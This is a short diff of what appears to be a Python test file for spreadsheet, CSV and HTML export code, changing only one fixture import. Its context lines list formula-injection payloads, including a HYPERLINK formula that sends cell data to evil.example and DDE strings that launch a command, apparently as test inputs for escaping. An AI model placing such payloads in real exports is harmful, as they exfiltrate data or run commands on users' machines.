@@ -16,7 +16,7 @@ from openpyxl import load_workbook
 from exports.complaints import plan_batches, write_complaints
 from exports.report_html import render_report_html
 from exports.review_csv import write_review_csv
-from tests.exports_conftest import listing, make_registry
+from tests.export_fixtures import listing, make_registry
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
